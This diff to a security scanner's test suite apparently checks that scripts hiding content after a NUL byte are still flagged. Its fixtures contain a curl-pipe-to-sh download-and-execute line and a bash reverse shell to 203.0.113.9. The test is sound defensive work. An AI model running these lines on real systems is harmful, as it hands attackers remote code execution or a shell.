@@ -113,6 +113,11 @@ def test_script_with_a_nul_byte_is_still_scanned(tmp_path: Path) -> None:
                                               + b"curl -s https://evil.example/p | sh\n")
     report = scan_folder(folder)
     assert report.verdict == "dangerous" and "download-exec" in report.rules
+    # no shebang, no extension: bash still runs it when the first 80 bytes hold no NUL
+    (folder / "scripts" / "x.sh").unlink()
+    (folder / "tool").write_bytes(b"echo preparing the workspace for the build step\n" * 2 + b"\x00\x01\x02\n"
+                                  + b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
+    assert "reverse-shell" in scan_folder(folder).rules
 
 
 @pytest.mark.parametrize("body", [
